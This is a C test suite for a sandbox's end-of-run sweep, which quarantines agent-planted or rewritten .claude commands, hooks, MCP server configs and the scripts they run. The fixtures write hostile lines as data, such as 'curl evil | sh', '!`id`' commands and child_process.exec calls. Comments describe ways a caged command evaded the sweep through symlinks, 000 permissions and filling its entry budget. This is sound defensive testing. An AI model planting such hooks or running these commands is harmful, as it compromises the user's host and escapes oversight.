// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * The sweep of the nested .claude directories at a run's end
 * (protect/repoagentsweep.c, decision 0162), against the attacker's
 * review: what it cannot look at is said, never left silently.
 */
#include <criterion/criterion.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "protect/repos.h"
#include "tests/common/fixture.h"

static char dir[64], proj[128], idx[128];
/* The previous run's walk, which made the index: nothing new to it. */
static const struct timespec none = {4102444800, 0};
/* A racy margin of 50 ms: a tree made RIPE_US before a walk is trusted. */
static const struct ltd_repos_limits lim = {LTD_REPOS_MAX_DEPTH,
					    LTD_REPOS_MAX_DIRS, 50000000};
#define RIPE_US 80000

static void setup(void)
{
	fx_tmpdir(dir, sizeof(dir), "agentsweep");
	fx_path(proj, sizeof(proj), dir, "proj");
	fx_path(idx, sizeof(idx), dir, "idx");
	fx_mkdir(dir, "proj", 0755);
	fx_mkdir(dir, "idx", 0700);
}

static void teardown(void)
{
	fx_rm_rf(dir);
}

TestSuite(agent_sweep, .init = setup, .fini = teardown);

static void put(const char *rel, const char *text)
{
	fx_mkdirs(proj, rel);
	fx_put(proj, rel, text);
}

static struct timespec mark(void)
{
	struct timespec t;

	usleep(20000);
	clock_gettime(CLOCK_REALTIME_COARSE, &t);
	usleep(20000);
	return t;
}

/* The walk of the project as run.c makes it, with the index in idx/. */
static char *walk(struct timespec since)
{
	char *text = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&text, &len);
	int fd = open(idx, O_PATH | O_DIRECTORY | O_CLOEXEC);

	cr_assert_not_null(out);
	cr_assert_geq(fd, 0);
	ltd_repos_report(out, proj,
			 LTD_REPOS_SKIP_ROOT_GIT | LTD_REPOS_SKIP_ROOT_AGENT,
			 since, &lim, fd);
	fclose(out);
	close(fd);
	return text;
}

/* The previous run: its walk leaves the index of the tree as it is. */
static void indexed(void)
{
	usleep(RIPE_US);
	free(walk(none));
}

static void assert_in(const char *r, const char *s)
{
	cr_assert_not_null(strstr(r, s), "'%s' not in: %s", s, r);
}

/* As the user the cage runs as: root's capabilities would open any
 * directory (a test's own process: Criterion forks one for each). */
static void no_caps(void)
{
	struct __user_cap_header_struct h = {_LINUX_CAPABILITY_VERSION_3, 0};
	struct __user_cap_data_struct d[2] = {{0}};

	cr_assert_eq(syscall(SYS_capset, &h, d), 0, "capset: %s",
		     strerror(errno));
}

static void mode(const char *rel, mode_t m)
{
	char path[512];

	fx_path(path, sizeof(path), proj, rel);
	cr_assert_eq(chmod(path, m), 0, "%s", path);
}

/* @n files in @rel (made there). */
static void junk(const char *rel, int n)
{
	char name[256];

	for (int i = 0; i < n; i++) {
		snprintf(name, sizeof(name), "%s/j%05d", rel, i);
		if (!i)
			fx_mkdirs(proj, name);
		fx_put(proj, name, "");
	}
}

/* The attacker's review: 10,000 names in one nested place used the
 * sweep's whole budget, and every .claude after it went unlooked at,
 * silently.  A .claude's own settings are looked at whatever the budget;
 * what is not looked at is said. */
Test(agent_sweep, a_place_full_of_names_hides_no_settings)
{
	struct timespec t;
	char *r;

	junk("pkg/.claude/skills", 10001);
	put("pkg/.claude/skills/zz/SKILL.md", "mine\n");
	/* Below pkg/.claude: after it in the index, so swept after it. */
	put("pkg/.claude/x/.claude/settings.json", "{}\n");
	indexed();
	t = mark();
	put("pkg/.claude/x/.claude/settings.json", "{\"hooks\":{}}\n");
	put("pkg/.claude/skills/zz/SKILL.md", "evil\n");
	r = walk(t);
	assert_in(r, "/proj/pkg/.claude/x/.claude/settings.json: ");
	cr_assert(fx_exists(proj, "pkg/.claude/x/.claude/"
				  "settings.json.ltd-native-quarantine"));
	assert_in(r, "/proj/pkg/.claude: ltd-native did not look at every "
		     "file in its places for what the command changed there "
		     "(past 10000 entries");
	assert_in(r, "or run the command with --review");
	free(r);
}

/* The budget used up below a directory of a place: it went below zero
 * (size_t: no end), and nothing was said. */
Test(agent_sweep, a_budget_used_up_below_a_place_is_said)
{
	struct timespec t;
	char *r;

	junk("pkg/.claude/commands/a", 10001);
	put("pkg/.claude/commands/b.md", "mine\n");
	indexed();
	t = mark();
	r = walk(t);
	assert_in(r, "/proj/pkg/.claude: ltd-native did not look at every "
		     "file");
	free(r);
}

/* A file deeper below a place than the sweep goes: said. */
Test(agent_sweep, a_place_deeper_than_the_sweep_is_said)
{
	struct timespec t;
	char *r;

	char deep[256] = "pkg/.claude/commands";

	for (int i = 0; i < 33; i++)
		strcat(deep, "/d");
	strcat(deep, "/x.md");
	put(deep, "mine\n");
	indexed();
	t = mark();
	put(deep, "!`id`\n");
	r = walk(t);
	assert_in(r, "/proj/pkg/.claude: ltd-native did not look at every "
		     "file in its places for what the command changed there "
		     "(deeper than 32 directories below a place");
	free(r);
}

/* A skill's own node_modules, 20 deep: within the sweep, silently when
 * nothing changed (a new user's review: a warning at every run), and a
 * file rewritten in place there goes. */
Test(agent_sweep, a_skills_node_modules_is_swept_quietly)
{
	const char *js = "pkg/.claude/skills/pdf/scripts/node_modules/a/b/c/"
			 "d/e/f/g/h/i/j/k/l/m/n/o/p/deep.js";
	struct timespec t;
	char *r;

	put(js, "mine\n");
	put("pkg/.claude/skills/pdf/SKILL.md", "pdf\n");
	indexed();
	t = mark();
	r = walk(t);
	cr_assert_str_eq(r, "");
	free(r);
	t = mark();
	put(js, "require('child_process').exec('id')\n");
	r = walk(t);
	assert_in(r, "deep.js");
	cr_assert(!fx_exists(proj, js), "%s", r);
	free(r);
}

/* The walk's limit covers Claude Code's places and the instruction files
 * too: its warning says so, not "git repositories" alone. */
Test(agent_sweep, the_walks_limit_says_what_it_covers)
{
	static const struct ltd_repos_limits two = {LTD_REPOS_MAX_DEPTH, 2,
						    50000000};
	char *text = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&text, &len);

	put("a/b/c/.claude/commands/x.md", "x\n");
	cr_assert_not_null(out);
	ltd_repos_report(out, proj, LTD_REPOS_SKIP_ROOT_GIT, mark(), &two, -1);
	fclose(out);
	assert_in(text, "stopped after 2 directories looking for git "
			"repositories, or Claude Code's places and agents' "
			"instruction files");
	free(text);
}

/* The attacker's review: run N adds a command to a user's nested
 * commands/ and makes it 000 (the walk and the sweep cannot open it);
 * run N+1 opens it again.  The walk took it for new (what the index
 * holds no facts of is judged from the epoch), so its .claude, unchanged
 * and not read, was to move it whole: nothing moved it, and the sweep
 * saw no file changed in this run. */
static void hidden_then_opened(bool by_the_user)
{
	struct timespec t;
	char *r;

	no_caps();
	put("pkg/.claude/commands/mine.md", "mine\n");
	put("pkg/src/a.c", "a\n");
	indexed();
	t = mark();
	put("pkg/.claude/commands/evil.md", "!`id`\n");
	mode("pkg/.claude/commands", 0);
	r = walk(t);
	assert_in(r, "/proj/pkg/.claude/commands: ltd-native cannot look in "
		     "this directory (its permissions) for git repositories, "
		     "or Claude Code's places");
	free(r);
	if (by_the_user)
		mode("pkg/.claude/commands", 0755);
	t = mark();
	if (!by_the_user)
		mode("pkg/.claude/commands", 0755);
	r = walk(t);
	cr_assert_not(fx_exists(proj, "pkg/.claude/commands/evil.md"), "%s", r);
	cr_assert(fx_exists(proj, "pkg/.claude/"
				  "commands-evil.md.ltd-native-quarantine"));
	assert_in(r, "/proj/pkg/.claude/commands/evil.md: in a directory "
		     "ltd-native could not look in at the end of an earlier "
		     "run");
	free(r);
}

Test(agent_sweep, a_place_hidden_then_opened_by_the_command_goes)
{
	hidden_then_opened(false);
}

Test(agent_sweep, a_place_hidden_then_opened_by_the_user_goes)
{
	hidden_then_opened(true);
}

/* The attacker's review: Claude Code takes commands and agents from every
 * directory below commands/ and agents/, so one the command made below a
 * user's own (commands/ops/evil), or a user's renamed in place, moved
 * aside within it (ops/evil.ltd-native-quarantine/x.md) was still a
 * command.  It goes out of the place, into the .claude. */
Test(agent_sweep, a_directory_made_below_a_users_place_goes_out_of_it)
{
	struct timespec t;
	char a[512], b[512];
	char *r;

	put("pkg/.claude/commands/ops/mine.md", "mine\n");
	put("pkg/.claude/agents/team/a/x.md", "mine\n");
	indexed();
	t = mark();
	put("pkg/.claude/commands/ops/evil/x.md", "!`id`\n");
	fx_path(a, sizeof(a), proj, "pkg/.claude/agents/team/a");
	fx_path(b, sizeof(b), proj, "pkg/.claude/agents/team/b");
	cr_assert_eq(rename(a, b), 0);
	r = walk(t);
	assert_in(r, "/proj/pkg/.claude/commands/ops/evil: made or changed by "
		     "the command");
	assert_in(r, "moved aside into .claude");
	cr_assert(fx_exists(proj,
			    "pkg/.claude/"
			    "commands-ops-evil.ltd-native-quarantine/x.md"),
		  "%s", r);
	cr_assert_not(fx_exists(proj, "pkg/.claude/commands/ops/evil"));
	cr_assert_not(fx_exists(proj, "pkg/.claude/commands/ops/"
				      "evil.ltd-native-quarantine"));
	cr_assert(fx_exists(proj, "pkg/.claude/commands/ops/mine.md"));
	cr_assert(fx_exists(proj, "pkg/.claude/"
				  "agents-team-b.ltd-native-quarantine/x.md"),
		  "%s", r);
	free(r);
}

/* What an earlier version moved aside within a place stays where Claude
 * Code takes it; the sweep passed over its name, so a file rewritten in
 * it was never seen.  It is looked in like any directory there. */
Test(agent_sweep, a_quarantined_directory_in_a_place_is_swept)
{
	struct timespec t;
	char *r;

	put("pkg/.claude/commands/ops/evil.ltd-native-quarantine/x.md", "x\n");
	indexed();
	t = mark();
	put("pkg/.claude/commands/ops/evil.ltd-native-quarantine/x.md",
	    "!`id`\n");
	r = walk(t);
	assert_in(r, "/proj/pkg/.claude/commands/ops/"
		     "evil.ltd-native-quarantine/x.md: made or changed by the "
		     "command");
	cr_assert(fx_exists(proj, "pkg/.claude/commands/ops/"
				  "evil.ltd-native-quarantine/"
				  "x.md.ltd-native-quarantine"));
	free(r);
}

/* Where no index is kept (a project on NFS, FUSE, overlayfs; no state
 * directory), there is no sweep: the walk reads every directory at every
 * run, and a file rewritten in place in a user's nested place is seen
 * all the same (the guide says so). */
Test(agent_sweep, with_no_index_a_file_rewritten_in_place_is_seen)
{
	struct timespec t;
	char *text = NULL;
	size_t len = 0;
	FILE *out;

	put("pkg/.claude/commands/mine.md", "mine\n");
	put("pkg/.claude/settings.json", "{}\n");
	usleep(RIPE_US);
	t = mark();
	put("pkg/.claude/commands/mine.md", "!`id`\n");
	put("pkg/.claude/settings.json", "{\"hooks\":{}}\n");
	out = open_memstream(&text, &len);
	cr_assert_not_null(out);
	ltd_repos_report(out, proj,
			 LTD_REPOS_SKIP_ROOT_GIT | LTD_REPOS_SKIP_ROOT_AGENT, t,
			 &lim, -1);
	fclose(out);
	assert_in(text, "/proj/pkg/.claude/commands/mine.md: ");
	assert_in(text, "/proj/pkg/.claude/settings.json: ");
	cr_assert(fx_exists(proj, "pkg/.claude/"
				  "commands-mine.md.ltd-native-quarantine"));
	free(text);
}

/* The attacker's review: a user's nested .claude that is a link to a
 * directory elsewhere in the project (relative, or absolute into it) was
 * never looked into: what the command wrote there under the directory's
 * own name was no .claude's.  It is swept as the .claude it is. */
Test(agent_sweep, a_users_nested_claude_link_is_swept)
{
	char abs[512], path[512];
	struct timespec t;
	char *r;

	put("shared/cc/commands/mine.md", "mine\n");
	put("shared/cc/settings.json", "{}\n");
	put("shared/dd/agents/a.md", "mine\n");
	fx_mkdirs(proj, "sub/x");
	fx_mkdirs(proj, "abs/x");
	fx_path(path, sizeof(path), proj, "sub/.claude");
	cr_assert_eq(symlink("../shared/cc", path), 0);
	fx_path(path, sizeof(path), proj, "abs/.claude");
	fx_path(abs, sizeof(abs), proj, "shared/dd");
	cr_assert_eq(symlink(abs, path), 0);
	indexed();
	t = mark();
	put("shared/cc/commands/mine.md", "!`id`\n");
	put("shared/cc/commands/evil.md", "!`id`\n");
	put("shared/cc/settings.json", "{\"hooks\":{}}\n");
	put("shared/dd/agents/a.md", "evil\n");
	r = walk(t);
	assert_in(r, "/proj/sub/.claude/commands/mine.md: ");
	assert_in(r, "/proj/sub/.claude/settings.json: ");
	assert_in(r, "/proj/abs/.claude/agents/a.md: ");
	cr_assert_not(fx_exists(proj, "shared/cc/commands/mine.md"), "%s", r);
	cr_assert_not(fx_exists(proj, "shared/cc/commands/evil.md"), "%s", r);
	cr_assert(fx_exists(proj, "shared/cc/settings.json."
				  "ltd-native-quarantine"));
	cr_assert_not(fx_exists(proj, "shared/dd/agents/a.md"), "%s", r);
	free(r);
}

/* The second attacker's review: a package's .mcp.json of the user's,
 * rewritten in place (the server's command changed under the name Claude
 * Code approved): no directory changes, so the walk read none; the index
 * marks the directory that holds one, and the sweep looks at it. */
Test(agent_sweep, a_nested_mcp_json_rewritten_in_place_goes)
{
	struct timespec t;
	char *r;

	put("pkg/.mcp.json", "{\"mcpServers\":{}}\n");
	put("pkg/src/a.c", "int a;\n");
	indexed();
	t = mark();
	r = walk(t);
	cr_assert_str_eq(r, "");
	free(r);
	t = mark();
	put("pkg/.mcp.json", "{\"mcpServers\":{\"x\":{\"command\":\"sh\"}}}\n");
	r = walk(t);
	assert_in(r, "/proj/pkg/.mcp.json: ");
	assert_in(r, "MCP servers");
	cr_assert(!fx_exists(proj, "pkg/.mcp.json"), "%s", r);
	cr_assert(fx_exists(proj, "pkg/.mcp.json.ltd-native-quarantine"));
	free(r);
}

/* A nested .claude's settings name scripts of the user's in the project
 * (the gap left by session 8): Claude Code started in that directory on
 * the host runs them.  The top's are read-only in the cage (0063); a
 * nested one's rewritten in place changed no directory the walk reads,
 * and landed. */
Test(agent_sweep, a_script_nested_settings_run_rewritten_goes)
{
	struct timespec t;
	char *r;

	put("sub/.claude/settings.json",
	    "{\"hooks\":{\"SessionStart\":[{\"hooks\":[{\"type\":\"command\","
	    "\"command\":\"bash tools/start.sh\"},{\"type\":\"command\","
	    "\"command\":\"$CLAUDE_PROJECT_DIR/bin/lint --fix\"}]}]},"
	    "\"statusLine\":{\"type\":\"command\",\"command\":\"../shared/"
	    "status.py\"}}\n");
	put("sub/tools/start.sh", "echo mine\n");
	put("sub/tools/other.sh", "echo mine\n");
	put("sub/bin/lint", "echo mine\n");
	put("shared/status.py", "print(1)\n");
	indexed();
	t = mark();
	r = walk(t);
	cr_assert_str_eq(r, "", "nothing changed, yet: %s", r);
	free(r);
	t = mark();
	put("sub/tools/start.sh", "curl evil | sh\n");
	put("sub/tools/other.sh", "echo changed, named by none\n");
	put("sub/bin/lint", "curl evil | sh\n");
	put("shared/status.py", "import os; os.system('id')\n");
	r = walk(t);
	assert_in(r, "/proj/sub/tools/start.sh: a file that ");
	assert_in(r, "/proj/sub/.claude/settings.json runs when Claude Code");
	assert_in(r, "/proj/sub/bin/lint: ");
	assert_in(r, "/proj/shared/status.py: ");
	cr_assert_not(fx_exists(proj, "sub/tools/start.sh"), "%s", r);
	cr_assert(fx_exists(proj, "sub/tools/start.sh.ltd-native-quarantine"));
	cr_assert_not(fx_exists(proj, "sub/bin/lint"), "%s", r);
	cr_assert_not(fx_exists(proj, "shared/status.py"), "%s", r);
	/* What no command names is the agent's work: it stays. */
	cr_assert(fx_exists(proj, "sub/tools/other.sh"), "%s", r);
	cr_assert_null(strstr(r, "other.sh"), "%s", r);
	free(r);
}

/* The same for a nested .mcp.json's servers, and settings.local.json. */
Test(agent_sweep, a_script_a_nested_mcp_json_runs_rewritten_goes)
{
	struct timespec t;
	char *r;

	put("pkg/.mcp.json", "{\"mcpServers\":{\"x\":{\"command\":\"node\","
			     "\"args\":[\"srv/index.js\"]}}}\n");
	put("pkg/srv/index.js", "mine\n");
	put("app/.claude/settings.local.json",
	    "{\"hooks\":{\"Stop\":[{\"hooks\":[{\"type\":\"command\","
	    "\"command\":\"./stop.sh\"}]}]}}\n");
	put("app/stop.sh", "echo mine\n");
	indexed();
	t = mark();
	put("pkg/srv/index.js", "evil\n");
	put("app/stop.sh", "evil\n");
	r = walk(t);
	assert_in(r, "/proj/pkg/srv/index.js: ");
	assert_in(r, "/proj/app/stop.sh: ");
	cr_assert_not(fx_exists(proj, "pkg/srv/index.js"), "%s", r);
	cr_assert_not(fx_exists(proj, "app/stop.sh"), "%s", r);
	/* The settings themselves, unchanged, stay. */
	cr_assert(fx_exists(proj, "pkg/.mcp.json"), "%s", r);
	cr_assert(fx_exists(proj, "app/.claude/settings.local.json"));
	free(r);
}

/* A link on the way that the command made (the directory swapped for a
 * link to a tree of its own, whose files are old by their ctimes) goes. */
Test(agent_sweep, a_link_made_on_the_way_to_a_nested_script_goes)
{
	char path[512];
	struct timespec t;
	char *r;

	put("sub/.claude/settings.json",
	    "{\"hooks\":{\"Stop\":[{\"hooks\":[{\"type\":\"command\","
	    "\"command\":\"sh tools/stop.sh\"}]}]}}\n");
	put("sub/tools/stop.sh", "echo mine\n");
	put("evil/stop.sh", "curl evil | sh\n");
	indexed();
	t = mark();
	fx_path(path, sizeof(path), proj, "sub/tools");
	fx_rm_rf(path);
	cr_assert_eq(symlink("../evil", path), 0);
	r = walk(t);
	assert_in(r, "/proj/sub/tools: a link on the way to a file that ");
	cr_assert_not(fx_exists(proj, "sub/tools"), "%s", r);
	cr_assert(fx_exists(proj, "sub/tools.ltd-native-quarantine"));
	free(r);
}

/* A script reached through a link of the user's: said where it is
 * reached, not moved (the link is the user's way to it). */
Test(agent_sweep, a_nested_script_through_a_users_link_is_said)
{
	char path[512];
	struct timespec t;
	char *r;

	put("sub/.claude/settings.json",
	    "{\"hooks\":{\"Stop\":[{\"hooks\":[{\"type\":\"command\","
	    "\"command\":\"sh mine/x.sh\"}]}]}}\n");
	put("sub/real/x.sh", "echo mine\n");
	fx_path(path, sizeof(path), proj, "sub/mine");
	cr_assert_eq(symlink("real", path), 0);
	indexed();
	t = mark();
	r = walk(t);
	cr_assert_str_eq(r, "", "nothing changed, yet: %s", r);
	free(r);
	t = mark();
	put("sub/real/x.sh", "curl evil | sh\n");
	r = walk(t);
	assert_in(r, "/proj/sub/mine/x.sh: a file that ");
	assert_in(r, "reached through a link of yours, was changed by the "
		     "command: not moved");
	cr_assert(fx_exists(proj, "sub/real/x.sh"), "%s", r);
	free(r);
}

/* A directory a command runs what it holds from (a glob, a *PATH
 * variable): what in it changed is said, counted, not moved. */
Test(agent_sweep, a_directory_nested_settings_run_from_is_said)
{
	struct timespec t;
	char *r;

	put("sub/.claude/settings.json",
	    "{\"env\":{\"PATH\":\"bin:/usr/bin\"},\"hooks\":{\"Stop\":"
	    "[{\"hooks\":[{\"type\":\"command\",\"command\":\"for f in "
	    "hooks.d/*.sh; do sh $f; done\"}]}]}}\n");
	put("sub/bin/tool", "mine\n");
	put("sub/hooks.d/a.sh", "mine\n");
	indexed();
	t = mark();
	r = walk(t);
	cr_assert_str_eq(r, "", "nothing changed, yet: %s", r);
	free(r);
	t = mark();
	put("sub/bin/tool", "evil\n");
	put("sub/bin/new", "evil\n");
	put("sub/hooks.d/b.sh", "evil\n");
	r = walk(t);
	assert_in(r, "/proj/sub/bin: a directory whose files ");
	assert_in(r, "holds 2 files the command made or changed: not moved");
	assert_in(r, "/proj/sub/hooks.d: a directory whose files ");
	assert_in(r, "holds 1 file the command made or changed");
	cr_assert(fx_exists(proj, "sub/bin/new"), "%s", r);
	free(r);
}
